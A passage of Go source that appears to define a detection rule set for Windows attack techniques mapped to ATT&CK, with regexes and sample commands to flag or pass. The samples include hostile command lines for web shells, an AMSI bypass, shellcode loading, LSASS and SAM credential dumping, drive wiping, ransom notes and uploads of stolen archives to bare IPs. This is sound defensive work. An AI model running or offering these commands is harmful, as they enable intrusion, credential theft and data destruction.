		`net1?(\.exe)?\s+user\s+\S+\s+\S*\s*/add|net1?(\.exe)?\s+localgroup\s+administrators\s+.*/add|add-localgroupmember\s+.*administrators|new-localuser\s`,
		"",
		[]string{"net user helpdesk P@ss1 /add", "net localgroup administrators helpdesk /add", "Add-LocalGroupMember -Group Administrators -Member helpdesk"},
		[]string{"net user", "net localgroup administrators"}),
	tr("windows-destroy", "destructive filesystem", critical, "deletes or wipes a Windows system drive or profile",
		[]string{"rd /", "rmdir /", "del /", "remove-item", "format c", "format.com", "cipher", "clear-disk", "format-volume"},
		`\b(rd|rmdir)\s+(/s\s+/q|/q\s+/s)\s+["']?c:\\?(windows|users|program files)?["']?\s*$|\bdel\s+.*/s.*\s["']?c:\\\*?["']?(\s|$)|remove-item\s+.*(c:\\(windows|users)?\\?\*?["']?(\s|$)|\$env:(userprofile|systemroot|windir)["']?(\s|$)).*-recurse|remove-item\s+.*-recurse.*\s["']?(c:\\(windows|users)?\\?\*?|\$env:(userprofile|systemroot|windir))["']?(\s|$)|\bformat(\.com)?\s+c:|cipher(\.exe)?\s+/w:|clear-disk\s|format-volume\s+.*-driveletter\s+c\b`,
		"",
		[]string{"rd /s /q C:\\", "Remove-Item -Recurse -Force C:\\Users", "format c: /q", "cipher /w:C:\\"},
		[]string{"Remove-Item -Recurse -Force .\\build", "rd /s /q node_modules"}),
	// The .NET profiler named in the environment loads into every .NET
	// process started from it, PowerShell included (ATT&CK T1574.012).
	tr("cor-profiler-env", "library injection", high, "sets a .NET profiler DLL in the environment so that the next .NET process loads it (ATT&CK T1574.012)",
		[]string{"cor_profiler", "coreclr_profiler"},
		`(cor|coreclr)_profiler_path(_64|_32)?\s*=`,
		`(cor|coreclr)_enable_profiling\s*=\s*['"]?1`,
		[]string{"$env:COR_ENABLE_PROFILING=1; $env:COR_PROFILER='{11111111-1111-1111-1111-111111111111}'; $env:COR_PROFILER_PATH='C:\\Users\\Public\\p.dll'; Start-Process powershell", "set COR_ENABLE_PROFILING=1& set COR_PROFILER_PATH=C:\\ProgramData\\p.dll& powershell"},
		[]string{"$env:COR_ENABLE_PROFILING=0"}),
	// PowerShell's own history files read for secrets (ATT&CK T1552.003).
	tr("psreadline-history-hunt", "credential access", high, "searches PowerShell's history files for passwords or tokens (ATT&CK T1552.003)",
		[]string{"consolehost_history", "historysavepath"},
		`consolehost_history\.txt|historysavepath`,
		`(select-string|findstr|\bsls\b|-match|grep)\s[^\n]*(pass|secret|token|cred|key|asplaintext|securestring)`,
		[]string{"Get-ChildItem -Path C:\\Users\\*\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt | Get-Content | Select-String -Pattern \"password|-AsPlainText\"", "Get-Content (Get-PSReadlineOption).HistorySavePath | Select-String password"},
		[]string{"Get-Content (Get-PSReadlineOption).HistorySavePath | Select-String 'docker'"}),
	// A page that runs what a request parameter says, written into a web
	// folder: a web shell (ATT&CK T1505.003).
	tr("web-shell-write", "persistence", high, "writes a web page that runs commands or code taken from a request (ATT&CK T1505.003)",
		[]string{"request", "$_get", "$_post", "$_request"},
		`(request\s*(\.item|\.form|\.querystring|\.params)?\s*\[|\$_(get|post|request)\s*\[)[\s\S]{0,200}?\b(eval|process\.start|shell_exec|passthru|system|exec|popen)\b|\b(eval|process\.start|shell_exec|passthru|system|popen|assert)\s*\([^)]{0,60}(request\s*(\.item|\.form|\.querystring)?\s*\[|\$_(get|post|request))`,
		`\.(aspx?|ashx|asmx|jspx?|php\d?)\b`,
		[]string{"echo ^<%@ Page Language=\"C#\" %^>^<% System.Diagnostics.Process.Start(\"cmd.exe\",\"/c \" + Request[\"c\"]); %^> > C:\\inetpub\\wwwroot\\help.aspx", "Set-Content -Path C:\\inetpub\\wwwroot\\status.aspx -Value '<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>'"},
		[]string{"Set-Content -Path C:\\inetpub\\wwwroot\\index.html -Value '<h1>Maintenance</h1>'", "echo '<?php echo htmlspecialchars($_GET[\"q\"]); ?>' > search.php"}),
	// Icons or folder settings pointing at a share on a bare address:
	// whoever browses the folder sends a password hash there (ATT&CK T1187).
	tr("forced-auth-unc-icon", "credential access", high, "plants a file whose icon loads from a share on a bare address, so that anyone who opens the folder sends it a password hash (ATT&CK T1187)",
		[]string{"iconresource", "iconfile", "iconlocation", "imagepath"},
		`(iconresource|iconfile|iconlocation)\s*=?\s*['"]?\\\\\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\\`,
		``,
		[]string{"echo [.ShellClassInfo] > \\\\fs01\\share\\desktop.ini & echo IconResource=\\\\192.0.2.152\\icon.ico >> \\\\fs01\\share\\desktop.ini", "$s=(New-Object -ComObject WScript.Shell).CreateShortcut('\\\\fs01\\share\\@readme.lnk'); $s.IconLocation='\\\\192.0.2.153\\s\\i.ico'; $s.Save()"},
		[]string{"echo IconResource=C:\\Windows\\System32\\shell32.dll,4 >> desktop.ini"}),
	// A scheduled task registered through the Task Scheduler's COM object
	// with an action in a staging folder or a shell (ATT&CK T1053.005).
	tr("task-com-register", "persistence", high, "registers a scheduled task through the Task Scheduler's COM object that runs a shell or a program from a user-writable folder (ATT&CK T1053.005)",
		[]string{"schedule.service"},
		`schedule\.service`,
		`\.path\s*=\s*['"][^'"]*(\\users\\public\\|\\temp\\|\\appdata\\|\\programdata\\|powershell|\bcmd(\.exe)?['"]|mshta|rundll32|regsvr32|wscript|cscript)`,
		[]string{"$t = New-Object -ComObject Schedule.Service; $t.Connect(); $f=$t.GetFolder('\\'); $d=$t.NewTask(0); $a=$d.Actions.Create(0); $a.Path='C:\\Users\\Public\\s.exe'; $f.RegisterTaskDefinition('upd',$d,6,'SYSTEM',$null,5)"},
		[]string{"$t = New-Object -ComObject Schedule.Service; $t.Connect(); $t.GetFolder('\\').GetTasks(0) | Select-Object Name"}),
	// A ransom note written out (ATT&CK T1486, T1491.001).
	tr("ransom-note", "destructive filesystem", high, "writes a ransom note (ATT&CK T1486)",
		[]string{"encrypted", "bitcoin", "btc", "monero", "decrypt"},
		`(your (files|data|documents|network) (are|have been|were|is) (encrypted|locked)|pay\s+[\d.]+\s*(btc|bitcoin|xmr|monero)\b|send\s+[\d.]+\s*(btc|bitcoin)\b|to (get|recover) your (files|data) back)`,
		`(>|set-content|out-file|add-content|-value\b|writealltext)`,
		[]string{"echo Your files are encrypted. Pay 1 BTC > C:\\Users\\Public\\Desktop\\README_RESTORE.txt & notepad C:\\Users\\Public\\Desktop\\README_RESTORE.txt", "echo 'All your files have been encrypted' > /home/ann/Desktop/RESTORE.txt"},
		[]string{"echo Build finished > C:\\build\\status.txt", "grep -r 'your files are encrypted' samples/"}),
	// An autorun.inf that opens a program, written to a drive (ATT&CK
	// T1091): removable media that runs code where autorun is on.
	tr("autorun-inf-write", "persistence", high, "writes an autorun.inf that starts a program from a drive (ATT&CK T1091)",
		[]string{"autorun.inf"},
		`autorun\.inf`,
		`\b(open|shellexecute|shell\\\w+\\command)\s*=\s*\S`,
		[]string{"cmd /c echo [autorun] > E:\\autorun.inf & echo open=payload.exe >> E:\\autorun.inf & copy C:\\Users\\Public\\payload.exe E:\\"},
		[]string{"type E:\\autorun.inf", "del E:\\autorun.inf"}),
	tr("amsi-bypass", "defense evasion", high, "disables PowerShell's malware scanning (AMSI)",
		[]string{"amsi"},
		`amsiutils|amsiinitfailed|amsiscanbuffer|amsicontext`,
		"",
		[]string{"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"},
		[]string{"Get-Help about_Execution_Policies"}),
	// Win32 functions declared for PowerShell or .NET (P/Invoke) whose
	// only everyday callers are loaders, injectors, keyloggers and
	// dumpers: what the declaration is for says what the script does.
	tr("ps-pinvoke-abuse", "library injection", high, "declares Win32 functions for memory injection, keystroke capture or process dumping from PowerShell (ATT&CK T1055, T1056.001, T1003.001)",
		[]string{"dllimport", "getdelegateforfunctionpointer"},
		`dllimport|getdelegateforfunctionpointer`,
		`virtualprotect(ex)?\b|virtualalloc(ex)?\b|createremotethread|writeprocessmemory|readprocessmemory|ntwritevirtualmemory|ntallocatevirtualmemory|ntcreatethreadex|queueuserapc|setthreadcontext|ntunmapviewofsection|rtlcreateuserthread|getasynckeystate|setwindowshookex|getkeyboardstate|minidumpwritedump|\bcreatethread\b|amsiscanbuffer|etweventwrite`,
		[]string{"Add-Type -TypeDefinition 'using System;using System.Runtime.InteropServices;public class M{[DllImport(\"kernel32\")]public static extern bool VirtualProtect(IntPtr a,UIntPtr b,uint c,out uint d);}'", "[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);"},
		[]string{"Add-Type -TypeDefinition '[DllImport(\"user32.dll\")] public static extern int MessageBox(IntPtr h, string t, string c, int type);'", "Add-Type -AssemblyName System.Windows.Forms"}),
	tr("ps-shellcode-copy", "obfuscated execution", high, "copies raw machine code into memory and starts a thread on it from PowerShell (ATT&CK T1055)",
		[]string{"marshal]::copy"},
		`marshal\]::copy\s*\(`,
		`createthread|getdelegateforfunctionpointer|virtualprotect|queueuserapc`,
		[]string{"[System.Runtime.InteropServices.Marshal]::Copy($sc,0,$addr,$sc.Length);$t=$k::CreateThread(0,0,$addr,0,0,0)"},
		[]string{"[System.Runtime.InteropServices.Marshal]::Copy($src, 0, $ptr, $src.Length)"}),
	// Scripts, modules and functions whose names say the technique they
	// carry out (uac-bypass.ps1, Invoke-PSInject, timestomp.ps1): run,
	// loaded or dot-sourced, the name is what the call does.
	tr("technique-named-script", "indirect execution", high, "runs, loads or calls a script or function named for an attack technique (UAC bypass, credential dumping, injection, timestomping, keylogging) (ATT&CK T1059.001)",
		[]string{"uac", "cred", "katz", "timestomp", "inject", "keylog", "privesc", "revshell", "reverse", "backdoor", "shellcode", "lsass", "hollow"},
		`(^|[\s\\/"'(&.;:=])[\w.-]*(bypass-?uac|uac-?bypass|uac-?me\b|cred-?dump|dump-?creds?|creds?-?dumps?\b|\w*katz|timestomp|psinject|\w+-?inject(ion|or)?\b|(^|[\s\\/"'(&.;:=])inject(ion|or)?\b|keylog\w*|privesc|revshell|reverse-?shell|backdoor|shellcode|lsass-?dump|dump-?lsass|process-?hollow\w*)[\w.-]*(\.(ps1|psm1|exe|dll|bat|cmd|vbs|js|hta|py)\b|\s+-[a-z]|\s*;|\s*$)`,
		`\.(ps1|psm1|exe|dll|bat|cmd|vbs|js|hta|py)\b|\b(invoke|bypass|get|start|new|set)-\w*(uac|cred|katz|inject|timestomp|keylog|privesc|backdoor|shellcode|lsass|hollow)`,
		[]string{". .\\tools\\credDump.ps1; Run-Dump", "powershell -ep bypass -File .\\uac-bypass.ps1 -Target fodhelper", "Import-Module .\\lib\\Invoke-PSInject.ps1; Invoke-PSInject -ProcId 4242 -PoshCode $c", "Import-Module .\\Bypass-UAC.ps1; Bypass-UAC -Method fodhelper"},
		[]string{"Get-Content .\\notes\\uac-bypass-writeup.md", "dotnet add package Microsoft.Extensions.DependencyInjection", "Get-Credential"}),
	// Mail read through Outlook's object model and searched for secrets:
	// collection no everyday script needs (ATT&CK T1114.001).
	tr("outlook-mail-search", "credential access", high, "reads mail through Outlook's object model and searches it for passwords (ATT&CK T1114.001)",
		[]string{"outlook.application"},
		`outlook\.application`,
		`getnamespace\(\s*["']mapi["']\s*\)[\s\S]*(password|passwd|credential|secret|pwd)`,
		[]string{"$o = New-Object -ComObject Outlook.Application; $ns = $o.GetNamespace('MAPI'); $ns.GetDefaultFolder(6).Items | Where-Object { $_.Body -match 'password' }"},
		[]string{"$o = New-Object -ComObject Outlook.Application; $m = $o.CreateItem(0); $m.Subject = 'Build report'"}),
	// Files packed into an archive and sent to a web or FTP address in the
	// same script: staging then exfiltration (ATT&CK T1560, T1041).
	tr("archive-then-upload", "exfiltration", high, "packs files into an archive and uploads it to a web or FTP address (ATT&CK T1560.001, T1041)",
		[]string{"compress-archive", "7z", "rar", "makecab", "zipfile]::createfromdirectory", "tar "},
		`compress-archive|\b7z(a|\.exe)?\s+a\b|\brar(\.exe)?\s+a\b|zipfile\]::createfromdirectory|\btar(\.exe)?\s+(-[a-z]*c|c)`,
		`-infile\b|\.upload(file|data|string)(async)?\(|postasync\(|multipartformdatacontent|ftpwebrequest|webrequestmethods\+ftp\]::uploadfile|invoke-\w*upload\w*|curl(\.exe)?\s[^\n]*(-f\s|--form\b|-t\s|--upload-file\b|--data-binary\s+@)`,
		[]string{"Compress-Archive -Path $env:USERPROFILE\\Documents -DestinationPath $env:TEMP\\d.zip; Invoke-RestMethod -Uri https://198.51.100.71/u -Method Put -InFile $env:TEMP\\d.zip", "7z a C:\\Users\\Public\\o.7z C:\\Users\\ann\\Documents & curl.exe -F f=@C:\\Users\\Public\\o.7z http://192.0.2.71/up"},
		[]string{"Compress-Archive -Path .\\dist\\* -DestinationPath .\\dist.zip", "Invoke-RestMethod -Uri https://api.example.org/items -Method Post -Body $json"}),
	tr("ps-ftp-upload", "exfiltration", high, "uploads a file over FTP from PowerShell or .NET (ATT&CK T1048.003)",
		[]string{"uploadfile", "ftp"},
		`webrequestmethods\+ftp\]::uploadfile|\.method\s*=\s*["']stor["']|\.uploadfile\(\s*["']?ftp://`,
		``,
		[]string{"$r = [System.Net.FtpWebRequest]::Create('ftp://192.0.2.72/o.zip'); $r.Method = [System.Net.WebRequestMethods+Ftp]::UploadFile", "(New-Object Net.WebClient).UploadFile('ftp://192.0.2.73/a.zip', 'C:\\Users\\Public\\a.zip')"},
		[]string{"$r = [System.Net.FtpWebRequest]::Create('ftp://ftp.example.org/pub/'); $r.Method = [System.Net.WebRequestMethods+Ftp]::ListDirectory"}),
	// A script written line by line with echo into a staging folder or the
	// Startup folder, whose lines start programs: a dropper (ATT&CK T1105,
	// T1059.005).
	tr("script-drop-staging", "indirect execution", high, "writes a script that starts programs into a temporary, public or startup folder (ATT&CK T1059.005)",
		[]string{"echo", "set-content", "out-file", "add-content"},
		`(\becho\b[^\n>]*(createobject|wscript\.shell|\.run\b|shell\.application|powershell|start\s+/b|cmd(\.exe)?\s+/c|mshta|rundll32)[^\n>]*|(set-content|add-content|out-file)\b[^\n]*(createobject|wscript\.shell|iex\b|invoke-expression|downloadstring)[^\n]*|\becho\b[^\n>]*(start-process|invoke-expression|\biex\b|downloadstring)[^\n>]*)(>>?|-path|-filepath)\s*["']?[^\n"']*(\\users\\public\\|\\programdata\\|\\temp\\|%temp%|%public%|%appdata%\\microsoft\\windows\\start menu\\|\\start menu\\programs\\startup\\|\\startm~1\\|\\windowspowershell\\v1\.0\\|\\(windows)?powershell\\)[^\n"']*\.(vbs|vbe|js|jse|wsf|hta|bat|cmd|ps1)\b`,
		``,
		[]string{"echo Set s = CreateObject(\"WScript.Shell\") > C:\\Users\\Public\\u.vbs", "cmd /c echo start /b powershell -w hidden -c calc >> \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.cmd\""},
		[]string{"echo @echo off > build.cmd", "echo Set x = CreateObject(\"Scripting.FileSystemObject\") > tools\\gen.vbs"}),
	// A Windows protocol handler (ms-msdt:, search-ms:, ms-screensketch:,
	// ms-officecmd:, …) handed a share or a web address: the handler opens
	// or runs what is there under a signed program (ATT&CK T1218, T1204.001).
	tr("protocol-handler-remote", "indirect execution", high, "hands a Windows protocol handler (ms-msdt:, search-ms:, ms-…) a share or a web address to open or run (ATT&CK T1218)",
		[]string{"ms-", "search:", "search-ms"},
		`\b(ms-[a-z-]+|search-ms|search):[^\s"']*(\\\\\w|%5c%5c|//\d|https?:|https?%3a|location:\\\\)|\bms-msdt:[^\n]*(\$\(|/\.\./|it_(re)?browseforfile)`,
		``,
		[]string{"start ms-screensketch:edit?&filePath=\\\\192.0.2.74\\s\\a.png", "explorer.exe \"search-ms:query=report&crumb=location:\\\\192.0.2.75\\share\"", "start ms-msdt:/id PCWDiagnostic /skip force /param \"IT_BrowseForFile=/../../$(calc).exe\""},
		[]string{"start ms-settings:display", "start ms-windows-store://pdp/?productid=9NBLGGH4NNS1"}),
	tr("ps-function-pointer-call", "obfuscated execution", high, "turns a raw memory address into a callable delegate and calls it (running machine code from PowerShell, ATT&CK T1620)",
		[]string{"getdelegateforfunctionpointer"},
		`getdelegateforfunctionpointer\s*\(`,
		`\.invoke\(|virtualalloc|marshal\]::copy|getprocaddress`,
		[]string{"$d=[System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,[Func[int]]); $d.Invoke()"},
		[]string{"[System.Runtime.InteropServices.Marshal]::SizeOf([int])"}),
	// A script piped into PowerShell's standard input from a staging
	// folder or a share (type x.ps1 | powershell -).
	tr("ps-stdin-staged-script", "indirect execution", high, "pipes a script from a temporary, public or profile folder or a share into PowerShell (ATT&CK T1059.001)",
		[]string{"\\users\\public\\", "\\programdata\\", "\\windows\\temp\\", "\\appdata\\", "%temp%", "%public%", "%appdata%", "$env:temp", "$env:public", "$env:appdata", "\\downloads\\", "\\\\"},
		`(\btype|\bgc|get-content|\bcat|\bmore)\s+["']?[^\s|]*(\\users\\public\\|\\programdata\\|\\temp\\|%temp%|%public%|%appdata%|\$env:(temp|public|appdata)|\\appdata\\|\\downloads\\|^\\\\|\s\\\\)[^\s|]*\s*\|\s*(powershell|pwsh)(\.exe)?\b[^|\n]*\s-(\s|$|command\s+-(\s|$))`,
		``,
		[]string{"type C:\\Users\\Public\\s.ps1 | powershell.exe -", "Get-Content $env:TEMP\\s.txt | powershell -noprofile -"},
		[]string{"type .\\build.ps1 | powershell -", "Get-Content .\\a.txt | Measure-Object"}),
	tr("scm-permissions-open", "privilege escalation", high, "opens a service's or the service manager's permissions to everyone or to all users (ATT&CK T1222.001)",
		[]string{"sdset"},
		`\bsc(\.exe)?\s+(\\\\\S+\s+)?sdset\s+\S+\s+\S*\(a;[^;)]*;[^;)]*(ka|ga|gw|wd|wo|dc|rp)[^;)]*;[^;)]*;[^;)]*;(wd|au|bu|iu)\)`,
		``,
		[]string{"sc.exe sdset scmanager D:(A;;KA;;;WD)", "sc sdset Spooler D:(A;;CCLCSWRPWPDTLOCRRC;;;BU)"},
		[]string{"sc sdshow scmanager"}),
	tr("share-pushd-start", "indirect execution", high, "maps a share at a bare IP address and starts a program from it (ATT&CK T1204.002)",
		[]string{"pushd"},
		`\bpushd\s+["']?\\\\\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\\[^\n&|]*&&?\s*(start\b|call\b|["']?[\w.-]+\.(exe|bat|cmd|vbs|hta)\b)`,
		``,
		[]string{"pushd \\\\192.0.2.121\\share && start run.exe"},
		[]string{"pushd \\\\192.0.2.5\\docs && dir"}),
	tr("usage-traces-pipe-wipe", "defense evasion", high, "finds and deletes the traces Windows keeps of what was run or opened (Prefetch, recent files) (ATT&CK T1070.004)",
		[]string{"prefetch", "\\recent"},
		`(get-childitem|\bgci\b|\bdir\b|\bls\b)\s[^|\n]*(\\windows\\prefetch\b|\\microsoft\\windows\\recent\b)[^|\n]*\|\s*(remove-item|\bri\b|\bdel\b|\brm\b)`,
		``,
		[]string{"Get-ChildItem C:\\Windows\\Prefetch\\*.pf | Remove-Item -Force"},
		[]string{"Get-ChildItem C:\\Windows\\Prefetch | Measure-Object"}),
	// cmd.exe's for /f runs, line by line, what a download prints.
	tr("for-f-download-run", "download and execute", high, "runs as commands the lines a web request prints, with cmd.exe's for /f (ATT&CK T1105, T1059.003)",
		[]string{"for /f", "for  /f"},
		`\bfor\s+/f\b[^\n]*\(\s*'[^']*(\biwr\b|invoke-webrequest|\birm\b|invoke-restmethod|downloadstring|\bcurl\b|certutil|nslookup)[^']*'\s*\)\s*do\s+(@?call\s+)?%%?~?[a-z]\b`,
		``,
		[]string{"for /f \"delims=\" %a in ('powershell -c \"(iwr http://192.0.2.158/c).Content\"') do %a"},
		[]string{"for /f \"delims=\" %a in ('git rev-parse HEAD') do @echo %a"}),
	// A program in a staging folder started through .NET or COM rather
	// than by name (ATT&CK T1106, T1559.001).
	tr("api-start-staged", "indirect execution", high, "starts a program or script from a temporary, public or profile folder through .NET, WMI or COM (ATT&CK T1106)",
		[]string{"startinfo", "interaction]::shell", "win32_process", "shellexecute", ".run(", ".exec(", "::start("},
		`(startinfo\.filename\s*=|interaction\]::shell\(|win32_process['"]?\s*\)\s*\.create\(|process\]::start\(|(shellexecute|\.run|\.exec)\(\s*["'](cmd(\.exe)?|powershell(\.exe)?)["']\s*,)\s*["'][^"']*(\\users\\public\\|\\programdata\\|\\windows\\temp\\|\\appdata\\|%temp%|%public%|%appdata%|\$env:(temp|public|appdata))`,
		``,
		[]string{"$p=New-Object Diagnostics.Process;$p.StartInfo.FileName='C:\\Users\\Public\\n.exe';$p.Start()", "([wmiclass]'win32_process').Create('C:\\Users\\Public\\v.exe')", "$s=New-Object -ComObject Shell.Application;$s.ShellExecute('cmd.exe','/c C:\\Users\\Public\\x.bat','','',0)"},
		[]string{"([wmiclass]'win32_process').Create('notepad.exe')", "$p.StartInfo.FileName='C:\\Program Files\\Git\\bin\\git.exe'"}),
	// A script read from a share or a staging folder and run in memory.
	tr("ps-iex-staged-file", "indirect execution", high, "reads a script from a share or a temporary, public or profile folder and runs it with Invoke-Expression (ATT&CK T1059.001)",
		[]string{"\\users\\public\\", "\\programdata\\", "\\windows\\temp\\", "\\appdata\\", "%temp%", "%public%", "%appdata%", "$env:temp", "$env:public", "$env:appdata", "\\downloads\\", "\\\\"},
		`(get-content|\bgc\b|\bcat\b|\btype\b)\s+["']?(\\\\|[^\s|]*(\\users\\public\\|\\programdata\\|\\windows\\temp\\|\\appdata\\|%temp%|\$env:(temp|public|appdata)))[^|\n]*\|\s*(iex|invoke-expression)\b|(\biex\b|invoke-expression)\s*\(?\s*\(?\s*(get-content|\bgc\b|\[(system\.)?io\.file\]::readalltext)\s*\(?\s*["']?(\\\\|[^\s)]*(\\users\\public\\|\\programdata\\|\\windows\\temp\\|\\appdata\\|%temp%|\$env:(temp|public|appdata)))`,
		``,
		[]string{"Get-Content \\\\192.0.2.168\\s\\a.ps1 | iex", "iex (Get-Content C:\\Users\\Public\\b.txt -Raw)", "iex ([IO.File]::ReadAllText('C:\\ProgramData\\c.txt'))"},
		[]string{"Get-Content .\\snippet.ps1 | iex", "Get-Content C:\\Users\\Public\\notes.txt"}),
	tr("fake-credential-prompt", "credential access", high, "asks the user for credentials and writes or sends them in clear text (ATT&CK T1056.002)",
		[]string{"getnetworkcredential", "promptforcredential"},
		`(get-credential|promptforcredential\()[\s\S]*getnetworkcredential\(\)[^\n]*(out-file|set-content|add-content|>|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|\.upload)`,
		``,
		[]string{"$c=Get-Credential; $c.GetNetworkCredential() | Out-File C:\\Users\\Public\\c.txt"},
		[]string{"$c = Get-Credential; Connect-Server -Credential $c"}),
	tr("ps-upload-to-ip", "exfiltration", high, "uploads a file to a bare IP address or an FTP server with .NET's WebClient (ATT&CK T1048)",
		[]string{"uploadfile", "uploaddata"},
		`\.upload(file|data)(async)?\(\s*["'](https?://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|ftp://)`,
		``,
		[]string{"$wc=New-Object Net.WebClient; $wc.UploadFile('http://192.0.2.171/u', 'C:\\Users\\Public\\docs.zip')"},
		[]string{"$wc.UploadFile('https://upload.example.org/api', '.\\build.zip')"}),
	tr("regwrite-autostart", "persistence", high, "writes a Run key or another autostart location through WScript.Shell's RegWrite (ATT&CK T1547.001)",
		[]string{"regwrite"},
		`\.regwrite\(\s*["'][^"']*(currentversion\\runs?(once)?\\|\\winlogon\\(userinit|shell)|image file execution options\\|\\environment\\userinitmprlogonscript|\\shell\\open\\command)`,
		``,
		[]string{"$a=New-Object -ComObject WScript.Shell; $a.RegWrite('HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x','C:\\Users\\Public\\x.exe','REG_SZ')"},
		[]string{"$a.RegWrite('HKCU\\Software\\MyApp\\Theme','Dark','REG_SZ')"}),
	tr("dump-to-base64", "credential access", high, "encodes a memory dump or registry hive as text (staging credentials for exfiltration, ATT&CK T1003, T1132)",
		[]string{"tobase64string"},
		`tobase64string\(\s*\[(system\.)?io\.file\]::readallbytes\(\s*["'][^"']*\.(dmp|hiv|save|dit|kirbi)\b|tobase64string\(\s*\[(system\.)?io\.file\]::readallbytes\(\s*["'][^"']*\\(sam|system|security)["']`,
		``,
		[]string{"[Convert]::ToBase64String([IO.File]::ReadAllBytes('C:\\Users\\Public\\l.dmp')) | Out-File C:\\Users\\Public\\l.b64"},
		[]string{"[Convert]::ToBase64String([IO.File]::ReadAllBytes('.\\logo.png'))"}),
	// Services picked by a pattern of data, backup or security names and
	// stopped: what ransomware does before it encrypts (ATT&CK T1489).
	tr("ps-stop-services-by-pattern", "impact", high, "stops or disables the services whose names match database, backup or security products (ATT&CK T1489, T1562.001)",
		[]string{"stop-service", "set-service", "spsv"},
		`get-service\b[^|\n]*\|\s*(where-object|where|\?)\s*\{[^}]*(-match|-like|-imatch|-ilike)\s*['"][^'"]*(sql|backup|veeam|exchange|oracle|sophos|defender|sentinel|symantec|mcafee|acronis|vss)[^'"]*['"][^}]*\}\s*\|\s*(stop-service|spsv|set-service\b[^|\n]*-startuptype\s+disabled)`,
		``,
		[]string{"Get-Service | Where-Object {$_.Name -match 'sql|backup|veeam'} | Stop-Service -Force"},
		[]string{"Get-Service | Where-Object {$_.Name -match 'MyApp'} | Restart-Service"}),
	tr("ps-shellcode", "obfuscated execution", high, "loads and runs raw machine code from PowerShell",
		[]string{"virtualalloc"},
		`virtualalloc`,
		`createthread|marshal\]::copy|getdelegateforfunctionpointer`,
		[]string{"$p=[Win32]::VirtualAlloc(0,$sc.Length,0x3000,0x40);[System.Runtime.InteropServices.Marshal]::Copy($sc,0,$p,$sc.Length);[Win32]::CreateThread(0,0,$p,0,0,0)"},
		[]string{"Get-Process | Sort-Object WS -Descending"}),
	// h25 (session 9): effects written in the shapes technique tests use,
	// read from the whole text because the program doing them varies.
	tr("lsass-dump-file", "credential access", high, "writes a memory dump of LSASS, the process that holds logon credentials, to a file (ATT&CK T1003.001)",
		[]string{"lsass"},
		`lsass[^\n]*\.(dmp|dump)\b|\.(dmp|dump)\b[^\n]*\blsass\b|minidump[^\n]*\blsass\b|\blsass\b[^\n]*minidump`,
		``,
		[]string{"& $createdump -u -f $env:TEMP\\d.dmp (Get-Process lsass).id", "$id = (Get-Process lsass).Id; .\\dumper.exe $id C:\\Windows\\Temp\\l.dmp"},
		[]string{"Get-Process lsass | Select-Object Id, StartTime", "tasklist /fi \"imagename eq lsass.exe\"", "Get-ChildItem C:\\crashdumps\\*.dmp | Remove-Item"}),
	tr("shadow-copy-hive-read", "credential access", high, "reads the SAM, SYSTEM or SECURITY hive or the directory database out of a volume shadow copy (ATT&CK T1003.002, T1003.003)",
		[]string{"harddiskvolumeshadowcopy"},
		`harddiskvolumeshadowcopy\d*\\+windows\\+(system32\\+config\\+(sam|system|security)\b|ntds\\+ntds\.dit)`,
		``,
		[]string{"[System.IO.File]::Copy(\"\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\System32\\config\\SECURITY\", \"$env:TEMP\\s\")", "certutil -f -encodehex \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\Windows\\NTDS\\ntds.dit %TEMP%\\n 2"},
		[]string{"vssadmin list shadows", "dir \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Users\\dev\\Documents"}),
	tr("ps-credential-phish", "credential access", high, "shows a credential prompt dressed as Windows, Microsoft or a security update (ATT&CK T1056.002)",
		[]string{"promptforcredential", "get-credential"},
		`(promptforcredential\s*\(|get-credential\b[^\n]*-(message|title)\s+)\s*['"][^'"]*\b(windows|microsoft|security|update|outlook|office|teams|session expired|re-?enter|verify your)`,
		``,
		[]string{"$c = $host.UI.PromptForCredential('Windows Security', 'Your session expired', $env:USERNAME, $env:USERDOMAIN)", "Get-Credential -Message 'Microsoft Outlook needs your password'"},
		[]string{"$c = Get-Credential -Message 'Account for the build share'", "$c = $host.UI.PromptForCredential('Deploy', 'Account for the staging server', '', '')"}),
	tr("uac-windir-hijack", "privilege escalation", high, "points the windir variable at a command so that an auto-elevated task runs it (a UAC bypass, ATT&CK T1548.002)",
		[]string{"windir"},
		`(\bset\s+"?windir\s*=|\$env:windir\s*=|\\environment"?\s[^\n]*(/v|-v|-name)\s+['"]?windir\b|setenvironmentvariable\(\s*['"]windir['"])`,
		``,
		[]string{"set windir=cmd.exe /c start C:\\Users\\Public\\u.exe & schtasks /run /tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /I", "reg add HKCU\\Environment /v windir /d \"cmd /c C:\\Users\\Public\\u.exe &&\" /f"},
		[]string{"echo %windir%", "cd $env:windir\\System32"}),
	tr("dotnet-etw-off", "defense evasion", high, "switches off .NET event tracing for the processes it starts (COMPlus_ETWEnabled=0, ATT&CK T1562.006)",
		[]string{"etwenabled"},
		`complus_etwenabled['"]?\s*(=|-value)\s*['"]?0|\\\.netframework\b[^\n]*etwenabled[^\n]*(/d|-value)\s+['"]?0\b`,
		``,
		[]string{"set COMPlus_ETWEnabled=0 & C:\\Users\\Public\\t.exe", "$env:COMPlus_ETWEnabled = 0", "reg add HKLM\\Software\\Microsoft\\.NETFramework /v ETWEnabled /t REG_DWORD /d 0 /f"},
		[]string{"echo %COMPlus_ETWEnabled%", "set COMPlus_ETWEnabled=1"}),
	tr("icmp-file-exfil", "exfiltration", high, "sends a file's contents to a host inside ICMP echo requests (ATT&CK T1048.003)",
		[]string{"networkinformation.ping"},
		`networkinformation\.ping\b`,
